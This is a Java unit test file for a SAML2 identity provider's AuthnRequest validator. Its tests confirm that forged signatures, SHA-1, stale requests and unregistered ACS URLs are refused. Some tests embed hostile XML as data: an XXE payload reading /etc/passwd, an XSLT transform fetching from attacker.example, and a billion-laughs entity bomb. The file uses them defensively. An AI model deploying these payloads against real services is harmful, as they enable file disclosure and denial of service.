package dev.arbor.federation.protocol.saml2;

import static dev.arbor.federation.protocol.saml2.TestAuthnRequests.post;
import static dev.arbor.federation.protocol.saml2.TestAuthnRequests.request;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.arbor.federation.domain.saml2.NameIdFormat;
import dev.arbor.federation.domain.saml2.SamlBinding;
import dev.arbor.federation.domain.saml2.ServiceProvider;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.opensaml.saml.saml2.core.AuthnContextComparisonTypeEnumeration;

/** What is checked on an AuthnRequest received by HTTP-POST (the redirect binding: {@link HttpRedirectBindingTest}). */
class AuthnRequestValidatorTest {
    static final AuthnRequestValidator VALIDATOR = new AuthnRequestValidator(Duration.ofMinutes(3), Duration.ofMinutes(5));

    static AuthnRequestCheck check(ReceivedMessage message, ServiceProvider sp) {
        return VALIDATOR.check(message, AuthnRequestValidator.parse(message), sp, TestServiceProviders.SSO_URL,
                Instant.now());
    }

    static AuthnRequestCheck checkPost(String xml) {
        return check(HttpPostBinding.decodeRequest(post(xml), "rs-1"), TestServiceProviders.sp());
    }

    static SamlAuthnRequest accepted(AuthnRequestCheck check) {
        return assertInstanceOf(AuthnRequestCheck.Accepted.class, check).request();
    }

    static String refusedWith(String xml) {
        return assertThrows(InvalidSamlRequest.class, () -> checkPost(xml)).getMessage();
    }

    static SamlStatus statusOf(AuthnRequestCheck check) {
        return assertInstanceOf(AuthnRequestCheck.Refused.class, check).status();
    }

    @Test
    void aSignedRequestToARegisteredAcsIsAccepted() {
        TestAuthnRequests sent = request();

        SamlAuthnRequest request = accepted(checkPost(sent.signedXml()));

        assertEquals(sent.id, request.id());
        assertEquals(TestServiceProviders.ENTITY_ID, request.spEntityId());
        assertEquals(TestServiceProviders.ACS, request.acs().location());
        assertEquals("rs-1", request.relayState());
        assertNull(request.nameIdFormat());
        assertEquals("", request.tree());
        assertFalse(request.forceAuthn() || request.passive());
        assertTrue(request.rememberUntil().isAfter(sent.issueInstant.plus(Duration.ofMinutes(8))));
    }

    @Test
    void forceAuthnAndIsPassiveAreCarried() {
        TestAuthnRequests sent = request();
        sent.forceAuthn = true;
        sent.passive = true;

        SamlAuthnRequest request = accepted(checkPost(sent.signedXml()));

        assertTrue(request.forceAuthn());
        assertTrue(request.passive());
    }

    @Test
    void s10UnsignedRequestIsRefusedWhenTheSpMustSign() {
        assertTrue(refusedWith(request().xml()).contains("must sign"));
    }

    @Test
    void anUnsignedRequestIsAcceptedWhenTheSpNeedNotSign() {
        ServiceProvider relaxed = TestServiceProviders.sp(TestServiceProviders.unsignedRequestsAllowed());

        accepted(check(HttpPostBinding.decodeRequest(post(request().xml()), null), relaxed));
    }

    @Test
    void aBadSignatureIsRefusedEvenWhenSigningIsOptional() {
        ServiceProvider relaxed = TestServiceProviders.sp(TestServiceProviders.unsignedRequestsAllowed());
        String tampered = request().signedXml().replace(TestServiceProviders.ACS, TestServiceProviders.OTHER_ACS);

        assertThrows(InvalidSamlRequest.class,
                () -> check(HttpPostBinding.decodeRequest(post(tampered), null), relaxed));
    }

    @Test
    void s11ARequestSignedByAnotherKeyWithItsCertificateInKeyInfoIsRefused() {
        TestAuthnRequests forged = request();
        forged.key = SamlTestKeys.ATTACKER; // same subject DN as the SP's certificate, its own key in KeyInfo

        String xml = forged.signedXml();

        assertTrue(xml.contains("X509Certificate"), "the attacker's certificate is in the KeyInfo");
        assertTrue(refusedWith(xml).contains("does not verify"));
    }

    @Test
    void anEcdsaSignatureOfAnEcKeyInMetadataVerifies() {
        var ec = SamlTestKeys.ec("CN=ec sp");
        ServiceProvider sp = new ServiceProvider("demo", TestServiceProviders.ENTITY_ID, null,
                TestServiceProviders.sp().assertionConsumerServices(), List.of(), List.of(ec.certificate()), List.of(),
                false, TestServiceProviders.settings(), null);
        TestAuthnRequests sent = request();
        sent.key = ec;
        sent.signatureAlgorithm = SignatureAlgorithms.ECDSA_SHA256;

        accepted(check(HttpPostBinding.decodeRequest(post(sent.signedXml()), null), sp));
    }

    @Test
    void s24Sha1SignatureOrDigestIsRefused() {
        TestAuthnRequests sha1Signature = request();
        sha1Signature.signatureAlgorithm = TestAuthnRequests.RSA_SHA1;
        TestAuthnRequests sha1Digest = request();
        sha1Digest.digestAlgorithm = TestAuthnRequests.SHA1;

        assertTrue(refusedWith(sha1Signature.signedXml()).contains("signature algorithm not allowed"));
        assertTrue(refusedWith(sha1Digest.signedXml()).contains("digest algorithm not allowed"));
    }

    @Test
    void s19AnXsltTransformIsRefused() {
        String xslt = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet"
                + " xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\">"
                + "<xsl:copy-of select=\"document('http://attacker.example/x')\"/></xsl:template></xsl:stylesheet>"
                + "</ds:Transform>";
        String signed = request().signedXml();
        String withXslt = signed.replaceFirst("<ds:Transforms>", "<ds:Transforms>" + xslt);

        assertTrue(withXslt.contains("REC-xslt"));
        assertTrue(refusedWith(withXslt).contains("transform not allowed"));
    }

    @Test
    void s22ADestinationOtherThanThisEndpointIsRefused() {
        TestAuthnRequests otherRealm = request();
        otherRealm.destination = "http://localhost:8080/realms/other/saml2/sso";

        assertTrue(refusedWith(otherRealm.signedXml()).contains("Destination"));
    }

    @Test
    void aSignedRequestMustNameItsDestination() {
        TestAuthnRequests noDestination = request();
        noDestination.destination = null;

        assertTrue(refusedWith(noDestination.signedXml()).contains("Destination"));
    }

    @Test
    void s23AStaleOrFutureIssueInstantIsRefused() {
        TestAuthnRequests old = request();
        old.issueInstant = Instant.now().minus(Duration.ofMinutes(9));
        TestAuthnRequests future = request();
        future.issueInstant = Instant.now().plus(Duration.ofMinutes(4));
        TestAuthnRequests slightlyAhead = request();
        slightlyAhead.issueInstant = Instant.now().plus(Duration.ofMinutes(2));

        assertTrue(refusedWith(old.signedXml()).contains("IssueInstant"));
        assertTrue(refusedWith(future.signedXml()).contains("IssueInstant"));
        accepted(checkPost(slightlyAhead.signedXml()));
    }

    @Test
    void versionMustBeTwoPointZero() {
        String v11 = request().xml().replace("Version=\"2.0\"", "Version=\"1.1\"");
        ServiceProvider relaxed = TestServiceProviders.sp(TestServiceProviders.unsignedRequestsAllowed());

        var refused = assertThrows(InvalidSamlRequest.class,
                () -> check(HttpPostBinding.decodeRequest(post(v11), null), relaxed));
        assertTrue(refused.getMessage().contains("Version"));
    }

    @Test
    void anUnregisteredAcsUrlIsRefusedNeverAnswered() {
        TestAuthnRequests evil = request();
        evil.acsUrl = "https://attacker.example/acs";
        TestAuthnRequests prefix = request();
        prefix.acsUrl = TestServiceProviders.ACS + "/../evil";

        assertTrue(refusedWith(evil.signedXml()).contains("not registered"));
        assertTrue(refusedWith(prefix.signedXml()).contains("not registered"));
    }

    @Test
    void theAcsIsChosenByUrlByIndexOrTheDefault() {
        TestAuthnRequests byUrl = request();
        byUrl.acsUrl = TestServiceProviders.OTHER_ACS;
        TestAuthnRequests byIndex = request();
        byIndex.acsUrl = null;
        byIndex.acsIndex = 2;
        byIndex.protocolBinding = null;
        TestAuthnRequests byDefault = request();
        byDefault.acsUrl = null;
        TestAuthnRequests unknownIndex = request();
        unknownIndex.acsUrl = null;
        unknownIndex.acsIndex = 7;

        assertEquals(TestServiceProviders.OTHER_ACS, accepted(checkPost(byUrl.signedXml())).acs().location());
        assertEquals(TestServiceProviders.OTHER_ACS, accepted(checkPost(byIndex.signedXml())).acs().location());
        assertEquals(TestServiceProviders.ACS, accepted(checkPost(byDefault.signedXml())).acs().location());
        assertTrue(refusedWith(unknownIndex.signedXml()).contains("not registered"));
    }

    @Test
    void theArtifactBindingIsAnsweredAtTheArtifactAcsTheUrlNames() {
        TestAuthnRequests artifact = request();
        artifact.acsUrl = TestServiceProviders.ARTIFACT_ACS;
        artifact.protocolBinding = SamlBinding.HTTP_ARTIFACT.uri();

        SamlAuthnRequest accepted = accepted(checkPost(artifact.signedXml()));

        assertEquals(TestServiceProviders.ARTIFACT_ACS, accepted.acs().location());
        assertEquals(SamlBinding.HTTP_ARTIFACT, accepted.acs().binding());
        assertEquals(artifact.id, accepted.id());
    }

    @Test
    void theArtifactBindingWithoutUrlOrIndexGoesToTheDefaultArtifactAcs() {
        TestAuthnRequests artifact = request();
        artifact.acsUrl = null;
        artifact.protocolBinding = SamlBinding.HTTP_ARTIFACT.uri();

        SamlAuthnRequest accepted = accepted(checkPost(artifact.signedXml()));

        assertEquals(TestServiceProviders.ARTIFACT_ACS, accepted.acs().location());
        assertEquals(SamlBinding.HTTP_ARTIFACT, accepted.acs().binding());
    }

    @Test
    void anIndexRegisteredForHttpArtifactIsAnsweredByArtifactWhenNoBindingIsAsked() {
        TestAuthnRequests byIndex = request();
        byIndex.acsUrl = null;
        byIndex.acsIndex = 1;
        byIndex.protocolBinding = null;

        SamlAuthnRequest accepted = accepted(checkPost(byIndex.signedXml()));

        assertEquals(TestServiceProviders.ARTIFACT_ACS, accepted.acs().location());
        assertEquals(SamlBinding.HTTP_ARTIFACT, accepted.acs().binding());
    }

    @Test
    void aDefaultAcsOfHttpArtifactAnswersARequestThatNamesNoBinding() {
        ServiceProvider artifactFirst = new ServiceProvider("demo", TestServiceProviders.ENTITY_ID, null, List.of(
                new dev.arbor.federation.domain.saml2.SamlEndpoint(SamlBinding.HTTP_POST, TestServiceProviders.ACS, 0,
                        false, null),
                new dev.arbor.federation.domain.saml2.SamlEndpoint(SamlBinding.HTTP_ARTIFACT,
                        TestServiceProviders.ARTIFACT_ACS, 1, true, null)),
                List.of(), List.of(SamlTestKeys.SP_SIGNING.certificate()), List.of(), false,
                TestServiceProviders.settings(), null);
        TestAuthnRequests noBinding = request();
        noBinding.acsUrl = null;
        noBinding.protocolBinding = null;
        TestAuthnRequests post = request();
        post.acsUrl = null;

        SamlAuthnRequest byDefault = accepted(check(HttpPostBinding.decodeRequest(post(noBinding.signedXml()), null),
                artifactFirst));
        SamlAuthnRequest posted = accepted(check(HttpPostBinding.decodeRequest(post(post.signedXml()), null),
                artifactFirst));

        assertEquals(SamlBinding.HTTP_ARTIFACT, byDefault.acs().binding());
        assertEquals(TestServiceProviders.ARTIFACT_ACS, byDefault.acs().location());
        assertEquals(SamlBinding.HTTP_POST, posted.acs().binding(), "HTTP-POST asked: the default POST ACS");
        assertEquals(TestServiceProviders.ACS, posted.acs().location());
    }

    @Test
    void aBindingTheNamedAcsIsNotRegisteredForOrOneArborDoesNotSendIsUnsupportedBindingAtThePostAcs() {
        TestAuthnRequests postToArtifactUrl = request();
        postToArtifactUrl.acsUrl = TestServiceProviders.ARTIFACT_ACS;
        TestAuthnRequests artifactToPostIndex = request();
        artifactToPostIndex.acsUrl = null;
        artifactToPostIndex.acsIndex = 2;
        artifactToPostIndex.protocolBinding = SamlBinding.HTTP_ARTIFACT.uri();
        TestAuthnRequests redirect = request();
        redirect.protocolBinding = SamlBinding.HTTP_REDIRECT.uri();

        for (TestAuthnRequests sent : List.of(postToArtifactUrl, artifactToPostIndex, redirect)) {
            AuthnRequestCheck check = checkPost(sent.signedXml());

            assertEquals(SamlStatus.UNSUPPORTED_BINDING, statusOf(check).secondLevel());
            assertEquals(SamlStatus.REQUESTER, statusOf(check).code());
            assertEquals(TestServiceProviders.ACS, check.request().acs().location());
            assertEquals(SamlBinding.HTTP_POST, check.request().acs().binding());
            assertEquals(sent.id, check.request().id());
        }
    }

    @Test
    void theNameIdPolicyFormatMustBeOneArborIssues() {
        TestAuthnRequests transientId = request();
        transientId.nameIdFormat = NameIdFormat.TRANSIENT.uri();
        TestAuthnRequests unspecified = request();
        unspecified.nameIdFormat = NameIdFormat.UNSPECIFIED.uri();
        TestAuthnRequests kerberos = request();
        kerberos.nameIdFormat = "urn:oasis:names:tc:SAML:2.0:nameid-format:kerberos";
        TestAuthnRequests affiliation = request();
        affiliation.spNameQualifier = "https://affiliation.example";

        assertEquals(NameIdFormat.TRANSIENT, accepted(checkPost(transientId.signedXml())).nameIdFormat());
        assertNull(accepted(checkPost(unspecified.signedXml())).nameIdFormat());
        assertEquals(SamlStatus.INVALID_NAME_ID_POLICY, statusOf(checkPost(kerberos.signedXml())).secondLevel());
        assertEquals(SamlStatus.INVALID_NAME_ID_POLICY, statusOf(checkPost(affiliation.signedXml())).secondLevel());
    }

    @Test
    void aRequestedAuthnContextSelectsItsTreeAndAnUnknownOneIsNoAuthnContext() {
        TestAuthnRequests mfa = request();
        mfa.contextClasses = List.of("urn:unknown:class", TestServiceProviders.MFA_CLASS);
        TestAuthnRequests unknown = request();
        unknown.contextClasses = List.of("urn:unknown:class");
        TestAuthnRequests better = request();
        better.contextClasses = List.of(TestServiceProviders.MFA_CLASS);
        better.comparison = AuthnContextComparisonTypeEnumeration.BETTER;

        assertEquals("mfa", accepted(checkPost(mfa.signedXml())).tree());
        assertEquals(SamlStatus.NO_AUTHN_CONTEXT, statusOf(checkPost(unknown.signedXml())).secondLevel());
        assertEquals(SamlStatus.NO_AUTHN_CONTEXT, statusOf(checkPost(better.signedXml())).secondLevel());
    }

    @Test
    void s17XxeInAPostedRequestIsRefusedWithoutFetching() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % sp SYSTEM \"http://127.0.0.1:1/attacker.dtd\">%sp;"
                + "<!ENTITY heh SYSTEM \"file:///etc/passwd\">]>" + request().xml()
                .replace(TestServiceProviders.ENTITY_ID, "&heh;");

        assertTrue(assertThrows(InvalidSamlRequest.class, () -> AuthnRequestValidator.parse(
                HttpPostBinding.decodeRequest(post(xxe), null))).getMessage().contains("DOCTYPE"));
    }

    @Test
    void s18ABillionLaughsInAPostedRequestIsRefused() {
        String bomb = billionLaughs(request().xml());

        assertThrows(InvalidSamlRequest.class,
                () -> AuthnRequestValidator.parse(HttpPostBinding.decodeRequest(post(bomb), null)));
    }

    @Test
    void aRelayStateLongerThan80BytesIsRefused() {
        assertThrows(InvalidSamlRequest.class,
                () -> HttpPostBinding.decodeRequest(post(request().signedXml()), "x".repeat(81)));
        assertEquals("x".repeat(80),
                HttpPostBinding.decodeRequest(post(request().signedXml()), "x".repeat(80)).relayState());
    }

    @Test
    void somethingElseThanAnAuthnRequestIsRefused() {
        String response = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\""
                + " Version=\"2.0\" IssueInstant=\"2026-01-01T00:00:00Z\"/>";

        assertThrows(InvalidSamlRequest.class,
                () -> AuthnRequestValidator.parse(HttpPostBinding.decodeRequest(post(response), null)));
        assertThrows(InvalidSamlRequest.class, () -> HttpPostBinding.decodeRequest("%%%not base64", null));
    }

    /** Keycloak's testXMLBombAttackResistance payload: lol1..lol9 in the Issuer. */
    static String billionLaughs(String xml) {
        StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        dtd.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">");
        for (int i = 2; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return dtd.append("]>").toString() + xml.replace(TestServiceProviders.ENTITY_ID, "&lol9;");
    }
}
